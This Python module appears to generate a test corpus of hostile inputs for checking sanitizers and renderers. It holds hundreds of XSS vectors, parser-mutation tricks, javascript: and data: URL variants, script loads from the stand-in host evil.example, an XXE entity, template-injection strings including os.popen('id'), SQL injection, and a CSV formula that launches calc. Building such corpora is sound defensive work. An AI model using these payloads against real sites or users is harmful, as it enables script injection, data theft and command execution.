"""Texts that would like to be more than text: markup, addresses, templates and tricks, combined into a corpus.

Whatever runs calls `xss()`; whatever leads away leads to `evil.example`. The families are those of the public
collections (handlers, tags, encodings, breaking out of quotes and comments, mutations, schemes, templates, bidi), made
anew here.
"""

from __future__ import annotations

import html
import itertools
from typing import TYPE_CHECKING, Final
from urllib.parse import quote

if TYPE_CHECKING:
    from collections.abc import Iterator

CALL: Final = "xss()"
AWAY: Final = "https://evil.example/"

HANDLERS: Final = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onfocusin",
    "onblur",
    "onmouseover",
    "onmouseenter",
    "onmousedown",
    "onpointerenter",
    "onpointerover",
    "onpointerrawupdate",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "ontoggle",
    "onbeforetoggle",
    "onbegin",
    "onend",
    "onrepeat",
    "onstart",
    "onscroll",
    "onscrollend",
    "oninput",
    "onchange",
    "oninvalid",
    "onsubmit",
    "onformdata",
    "onreset",
    "onselect",
    "onsearch",
    "oncopy",
    "oncut",
    "onpaste",
    "onbeforeinput",
    "ondrag",
    "ondrop",
    "onwheel",
    "onkeydown",
    "onkeyup",
    "onresize",
    "onhashchange",
    "onpageshow",
    "onpopstate",
    "onmessage",
    "onunhandledrejection",
    "oncanplay",
    "onloadstart",
    "onloadeddata",
    "ondurationchange",
    "onprogress",
    "oncuechange",
    "onauxclick",
    "oncontextmenu",
    "ongotpointercapture",
    "onsecuritypolicyviolation",
    "onwebkitanimationstart",
    "onslotchange",
]

OPENINGS: Final = (
    "<img src=x {on}>",
    "<svg {on}>",
    "<body {on}>",
    "<input autofocus {on}>",
    "<details open {on}>",
    "<x tabindex=1 contenteditable autofocus style=animation-name:appear {on}>a",
)

ALONE: Final = (
    f"<script>{CALL}</script>",
    f"<script src={AWAY}x.js></script>",
    f"<script type=module>{CALL}</script>",
    f"<script src=data:text/javascript,{CALL}></script>",
    f"<script>{CALL}//",
    f"<script/random>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<<script>{CALL}//<</script>",
    f"<script\n>{CALL}</script\n>",
    f"<script\x0c>{CALL}</script>",
    f"<script>{CALL}</script \x0b>",
    f"\x00<script>{CALL}</script>".replace("\x00", ""),
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href=data:,{CALL} />",
    f"<svg><script xlink:href=data:,{CALL}></script>",
    f"<svg><animate xlink:href=#x attributeName=href values=javascript:{CALL} /><a id=x><text x=20 y=20>x</text></a>",
    f"<svg><set attributeName=onmouseover to={CALL}>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{CALL}</script>'></iframe></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={CALL} /></svg>#x' />",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}></style></mglyph></table></mtext></math>",
    f"<math href=javascript:{CALL}>click</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>click</maction></math>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='&lt;script>parent.{CALL}&lt;/script>'></iframe>",
    f"<iframe src={AWAY}></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<object data='data:text/html,<script>{CALL}</script>'></object>",
    f"<embed src=javascript:{CALL}>",
    f"<applet code=x archive={AWAY}></applet>",
    f"<form action=javascript:{CALL}><button>click</button></form>",
    f"<form id=x></form><button form=x formaction=javascript:{CALL}>click</button>",
    f"<isindex type=image src=1 onerror={CALL}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    "<meta http-equiv=Set-Cookie content='x=y'>",
    f"<base href={AWAY}>",
    f"<base href=javascript:{CALL}//>",
    f"<link rel=stylesheet href={AWAY}x.css>",
    f"<link rel=import href={AWAY}>",
    f"<link rel=prefetch href={AWAY}>",
    f"<link rel=modulepreload href={AWAY}x.js>",
    f"<style>@import '{AWAY}x.css';</style>",
    f"<style>*{{background:url({AWAY})}}</style>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationend={CALL}>x</b>",
    f"<div style=background:url({AWAY})>x</div>",
    f"<div style='behavior:url({AWAY})'>x</div>",
    f"<div style=width:expression({CALL})>x</div>",
    f"<table background=javascript:{CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<video poster=javascript:{CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<bgsound src=javascript:{CALL}>",
    f"<frameset onload={CALL}>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><img src=x onerror={CALL}></template>",
    f"<template shadowrootmode=open><img src=x onerror={CALL}></template>",
    f"<portal src={AWAY}>",
    f"<dialog open onclose={CALL}><form method=dialog><button>x</button></form></dialog>",
    f"<button popovertarget=x>x</button><p popover id=x onbeforetoggle={CALL}>x</p>",
    f"<a href={AWAY} ping={AWAY}>x</a>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<a id=location><a id=location name=href href={AWAY}>",
    "<form id=chatzilla><input name=attributes><input name=innerHTML></form>",
    "<img name=body><img id=getElementById><img name=cookie>",
    f"<custom-element onclick={CALL}>x</custom-element>",
    f"<message-list><people-and-links><landing-card>{CALL}</landing-card></people-and-links></message-list>",
)

MUTATIONS: Final = (
    f"<noscript><style></noscript><img src=x onerror={CALL}>",
    f'<svg></p><style><a id="</style><img src=x onerror={CALL}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={CALL}&gt;">',
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f'<svg><title><a id="</title><img src=x onerror={CALL}>">',
    f"<svg><desc><img src=x onerror={CALL}></desc></svg>",
    f"<select><style></select><img src=x onerror={CALL}></style>",
    f"<table><td><svg><p><style><img src=x onerror={CALL}>",
    f"<p><svg><annotation-xml encoding=text/html><img src=x onerror={CALL}></annotation-xml></svg>",
    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={CALL}></style></annotation-xml></math>",
    f'<xmp><p title="</xmp><img src=x onerror={CALL}>">',
    f'<textarea><img title="</textarea><img src=x onerror={CALL}>">',
    f'<title><img title="</title><img src=x onerror={CALL}>">',
    f'<iframe><img title="</iframe><img src=x onerror={CALL}>">',
    f'<noembed><img title="</noembed><img src=x onerror={CALL}>">',
    f'<noframes><img title="</noframes><img src=x onerror={CALL}>">',
    f"<plaintext><img src=x onerror={CALL}>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!--!><img src=x onerror={CALL}>-->",
    f"<!-- --!><img src=x onerror={CALL}>",
    f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f"<svg><![CDATA[><img src=x onerror={CALL}>]]></svg>",
    f"<?xml version='1.0'?><img src=x onerror={CALL}>",
    f"<?php echo '<img src=x onerror={CALL}>' ?>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{AWAY}'>]><z>&y;</z>",
    f'<img src="`` onerror={CALL}//">',
    f'<img alt="<x" title="></x onerror={CALL}>">',
    f'<a title="<b>" href=x>&lt;img src=x onerror={CALL}&gt;</a>',
    f"<div id=x tabindex=1 onfocus={CALL}></div><a href=#x>x</a>",
)

BREAKOUTS: Final = (
    '"', "'", "`", '">', "'>", "`>", "-->", "--!>", "]]>", "*/", "//", "\\", '\\">', "\\'>", "</title>", "</textarea>",
    "</style>", "</script>", "</template>", "</noscript>", "</select>", "</option>", "</a>", "</p></div></main>", "</svg>",
    "</math>", "}}", "%}", "#}", '"}', "\n\n", "\r\n\r\n", "\u2028", "\u2029", "&quot;&gt;", "&#39;&#62;", "\x1b[0m", "\x08",
)  # fmt: skip

SCHEMES: Final = (
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"java\nscript:{CALL}", f"java\rscript:{CALL}",
    f" javascript:{CALL}", f"\x01javascript:{CALL}", f"\u00a0javascript:{CALL}", f"javascript\t:{CALL}", f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}", f"&#x6A;avascript:{CALL}", f"jav&Tab;ascript:{CALL}", f"jav&NewLine;ascript:{CALL}",
    f"javascript://%0a{CALL}", f"javascript://evil.example/%0d%0a{CALL}", f"javascript:/*--></title>*/{CALL}", f"%6Aavascript:{CALL}",
    f"javascript%3A{CALL}", f"\\u006Aavascript:{CALL}", f"ｊavascript:{CALL}", f"javas\u200dcript:{CALL}", f"javascript：{CALL}",
    f"vbscript:{CALL}", f"livescript:{CALL}", f"mocha:{CALL}", f"view-source:javascript:{CALL}", f"feed:javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>", "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==", f"DATA:text/html,<svg onload={CALL}>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>", f"data:text/javascript,{CALL}",
    f"data:,{CALL}", f"data:text/html;charset=utf-7,+ADw-script+AD4-{CALL}+ADw-/script+AD4-", "data:application/xhtml+xml,<x/>",
    f"blob:{AWAY}x", f"filesystem:{AWAY}x", f"jar:{AWAY}x!/", "file:///etc/passwd", "about:blank", f"intent:{AWAY}#Intent;end",
    AWAY, AWAY.upper(), "http://evil.example", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example",
    "https://evil.example@127.0.0.1/", "https://127.0.0.1@evil.example/", "https://evil.example%2f@127.0.0.1", "www.evil.example",
    "https://evil。example/", "https://ev\u0456l.example/", "https://[::1]/", "mailto:eve@evil.example?subject=x", "tel:+1",
    "ftp://evil.example/x", "ws://evil.example/", "chrome://settings", "ms-settings:", "steam://run/1", "x-apple:x", "ssh://evil.example",
)  # fmt: skip

HOLDERS: Final = (
    "{url}",
    "<a href='{url}'>click</a>",
    "<a href={url}>click",
    "[click]({url})",
    "![click]({url})",
    "[click][1]\n\n[1]: {url}",
    "<{url}>",
    "[url={url}]click[/url]",
    "|{url}|",
    "see {url}.",
    "<img src='{url}'>",
)

TEMPLATES: Final = (
    "{{7*7}}", "{{xss()}}", "{{constructor.constructor('xss()')()}}", "{{[].pop.constructor('xss()')()}}", "${xss()}", "${{xss()}}",
    "#{xss()}", "*{xss()}", "@{xss()}", "~{xss()}", "{%print(xss())%}", "{% include 'x' %}", "{#xss()#}", "<%=xss()%>", "<%xss()%>",
    "{{=xss()}}", "{{{xss()}}}", "{{&xss()}}", "{{>xss}}", "{{! xss() }}", "[[xss()]]", "[(${xss()})]", "((xss()))", "{{self.__init__}}",
    "{{''.__class__.__mro__}}", "{{config}}", "{{request}}", "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{{url_for}}",
    "%s%n%x", "%(x)s", "{0.__class__}", "{message.__init__}", "$(xss())", "`xss()`", "$((7*7))", "<c:out value='${xss()}'/>",
    "ng-app ng-csp ng-click=$event.view.xss()", "<x ng-app>{{$on.constructor('xss()')()}}</x>", "<x v-html=\"xss()\">", "<x :href=xss()>",
    "<x @click=xss()>", "<x x-data x-init=xss()>", "<x hx-on:load=xss()>", "<x data-bind=\"html:xss()\">", "<x dangerouslySetInnerHTML=xss()>",
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "valueOf", "then", "NaN", "null", "undefined",
    "[object Object]", "true", "0", "-1", "Infinity", '{"__proto__":{"x":1}}', "' OR 1=1 --", "'; DROP TABLE messages; --", "$ne", "{\"$gt\":\"\"}",
    "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "/me <script>xss()</script>", "/nick <b>", ":smile:<b>", "@everyone <b>", "#lobby<b>",
    "```\n<script>xss()</script>\n```", "`<img src=x onerror=xss()>`", "**<b>**", "> <b>quote", "- <li>", "| a | <b> |\n|---|---|",
    "<details><summary>x</summary>", "~~<s>~~", "$$\\href{javascript:xss()}{x}$$", "\\(\\unicode{<img src=x onerror=xss()>}\\)",
)  # fmt: skip

STRANGE: Final = (
    "\u202e<script>xss()</script>", "\u202exss\u202c()", "\u2066<b>\u2069", "\u200f\u200e<b>", "\ufeff<script>xss()</script>",
    "＜script＞xss()＜/script＞", "﹤img src=x onerror=xss()﹥", "‹script›xss()‹/script›", "\u0338<script>xss()</script>",
    "<scr\u0131pt>xss()</scr\u0131pt>", "<\u017fcript>xss()</\u017fcript>", "<\u212amg src=x onerror=xss()>", "+ADw-script+AD4-xss()+ADw-/script+AD4-",
    "\u00bcscript\u00bexss()\u00bc/script\u00be", "%3Cscript%3Exss()%3C/script%3E", "%253Cscript%253Exss()", "&lt;script&gt;xss()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;xss()", "&#60;script&#62;xss()", "&#x3c;script&#x3e;xss()", "&#0000060script>xss()", "\\x3cscript\\x3exss()",
    "\\u003cscript\\u003exss()", "\\74script\\76xss()", "<0x3Cscript>xss()", "\u0300" * 200 + "<b>", "Z\u0351\u036b\u0343<b>", "\U0001f9df<b>",
    "a" * 500 + "<b>", "<" * 300, ">" * 300, "&" * 300, '"' * 300, "<b>" * 80, "</div>" * 40, "\t\t<b>\t", "\u00a0<b>\u00a0", "\u3000<b>",
    "\ue000<b>", "\U000e0041<b>", "\ufff9<b>\ufffa<i>\ufffb", "\u061c<b>", "\u180e<b>", "\u2060<b>", "\x7f<b>", "\x85<b>", "\u0001<b>",
)  # fmt: skip


def corpus() -> list[str]:
    """All of it, each once, in one order."""
    return [text for text in dict.fromkeys(_all()) if text.strip() and "\0" not in text]


def lines() -> list[str]:
    """What may stand where one line of limited length is asked for, such as a name: made fit as a person would."""
    fitted = ("".join(each for each in text if each.isprintable())[:250].strip() for text in corpus())
    return [text for text in dict.fromkeys(fitted) if text]


def _all() -> Iterator[str]:
    for number, handler in enumerate(HANDLERS):
        yield OPENINGS[number % len(OPENINGS)].format(on=f"{handler}={CALL}")
        yield OPENINGS[(number + 1) % len(OPENINGS)].format(on=f"{handler}='{CALL}'").upper().replace("XSS", "xss")
        yield OPENINGS[(number + 2) % len(OPENINGS)].format(on=f'/{handler}\n=\n"{CALL}"')
    yield from ALONE
    yield from MUTATIONS
    for breakout, text in itertools.product(
        BREAKOUTS, (f"<img src=x onerror={CALL}>", f"<script>{CALL}</script>", f" onmouseover={CALL} ")
    ):
        yield breakout + text
    for number, url in enumerate(SCHEMES):
        for holder in (HOLDERS[0], HOLDERS[3], *(HOLDERS[(number + at) % len(HOLDERS)] for at in range(4))):
            yield holder.format(url=url)
    yield from TEMPLATES
    yield from STRANGE
    for text in (*ALONE, *MUTATIONS):
        yield html.escape(text)
        yield quote(text)
        yield text.replace("<", "\u02c2").replace(">", "\u02c3")
